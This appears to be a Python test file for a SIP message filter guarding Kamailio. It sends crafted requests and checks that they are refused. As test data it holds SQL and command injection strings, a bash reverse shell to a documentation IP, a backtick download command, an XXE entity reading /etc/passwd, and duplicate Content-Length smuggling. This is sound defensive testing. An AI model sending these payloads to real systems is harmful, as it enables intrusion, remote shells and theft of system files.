"""What an attacker hides is seen by the guard inside Kamailio, before any variable of the host shows it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from harness import Server, exchange, peer, request, status

#: Equal oddities in front of an attack.
FILLER = "".join(f";{letter}=%00" for letter in "abcdefghijklmnop")

ATTACKS = {
    "From's user": ("<sip:alice@", "<sip:' or 1=1--@"),
    "User-Agent": ("Max-Forwards", "User-Agent: $(reboot)\r\nMax-Forwards"),
    "From's name": ("From: ", "From: \"bash -i >& /dev/tcp/192.0.2.66/4444 0>&1\" "),
}  # fmt: skip


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    # Control bytes are only logged here, so that only what stands behind them can refuse a message.
    policy = '[limits]\nenabled = false\n[bans]\nenabled = false\n[actions]\ncontrol = "log"\n'
    with Server(tmp_path_factory.mktemp("look"), policy) as running:
        yield running


def changed(raw: bytes, old: str, new: str) -> bytes:
    assert old.encode() in raw
    return raw.replace(old.encode(), new.encode(), 1)


@pytest.mark.parametrize("place", ["request_uri", "route"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_repeats_hide_no_attack(server: Server, attack: str, place: str) -> None:
    call_id = f"repeats-{place}-{list(ATTACKS).index(attack)}"
    raw = request("OPTIONS", call_id=call_id)
    if place == "request_uri":
        raw = changed(raw, "sip:bob@example.com SIP", f"sip:bob@example.com{FILLER} SIP")
    else:
        raw = changed(raw, "\r\nFrom:", f"\r\nRoute: <sip:127.0.0.1:9;lr{FILLER}>\r\nFrom:")
    assert status(exchange(server, changed(raw, *ATTACKS[attack]))) == 403
    record = server.record_of(call_id)
    assert record["event"]["action"] == "reject"
    server.assert_healthy()


HIDDEN = {
    "host": ("<sip:alice@example.com>", "<sip:alice@example|id>"),
    "user": ("<sip:alice@", "<sip:x;touch pwn@"),
    "names of parameters": ("<sip:alice@example.com>", "<sip:alice@example.com;x'or'1'='1>"),
    "user and password": ("<sip:alice@", "<sip:`lynx%20http://192.0.2.66/x`@"),
    "a comment across the host": ("<sip:alice@example.com>", "<sip:x'/*@example.com;a=*/or/**/1=1-->"),
}


@pytest.mark.parametrize("place", HIDDEN)
def test_what_the_host_s_variables_would_show_is_looked_at(server: Server, place: str) -> None:
    call_id = f"hidden-{list(HIDDEN).index(place)}"
    raw = changed(request("OPTIONS", call_id=call_id), *HIDDEN[place])
    assert status(exchange(server, raw)) in (400, 403)
    assert server.record_of(call_id)["event"]["action"] == "reject"
    server.assert_healthy()


@pytest.mark.parametrize("host", ["document.", "pbx.dev.env.", "web.config.example.com"])
def test_a_customer_s_host_is_no_attack(server: Server, host: str) -> None:
    raw = changed(request("OPTIONS", call_id=f"host-{host}"), "<sip:alice@example.com>", f"<sip:alice@{host}>")
    assert status(exchange(server, raw)) == 200


def test_descriptions_and_entities_are_looked_at_whatever_their_type(server: Server) -> None:
    description = b"v=0\r\no=- 1 1 IN IP4 192.0.2.4\r\ns=-\r\nc=IN IP4 192.0.2.4\r\nt=0 0\r\n"
    entity = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><presence>&e;</presence>"
    for kind, body, expected in (
        ("text/plain", description, 200),
        ("text/plain", description + b"a=x:`id`\r\n", 403),
        ("application/sdp", description.replace(b"\r\n", b"\r") + b"a=x:`id`\r", 403),
        ("application/pidf+xml", entity, 400),
    ):
        raw = request("PUBLISH", headers=(f"Content-Type: {kind}",), body=body)
        assert status(exchange(server, raw)) == expected, (kind, body)


@pytest.mark.parametrize("values", ["0 9", "9 0"])
def test_a_connection_whose_messages_have_no_sure_end_is_closed(server: Server, values: str) -> None:
    first, second = values.split()
    lengths = f"Content-Length: {first}\r\nContent-Length: {second}"
    raw = changed(request("OPTIONS", call_id=f"carrier-{first}"), "Content-Length: 0", lengths)
    with peer("127.0.0.1", server.port, transport="tcp") as connection:
        connection.send(raw + request("OPTIONS", call_id="smuggled"))
        # Neither the message nor what follows it in the same segment is answered.
        assert connection.recv(65535) == b""
    assert server.record_of(f"carrier-{first}")["rule"]["id"] == ["content-length-conflict"]
    # An ordinary connection goes on.
    with peer("127.0.0.1", server.port, transport="tcp") as connection:
        for call_id in ("one", "two"):
            connection.send(request("OPTIONS", call_id=call_id))
            assert status(connection.recv(65535)) == 200
    server.assert_healthy()
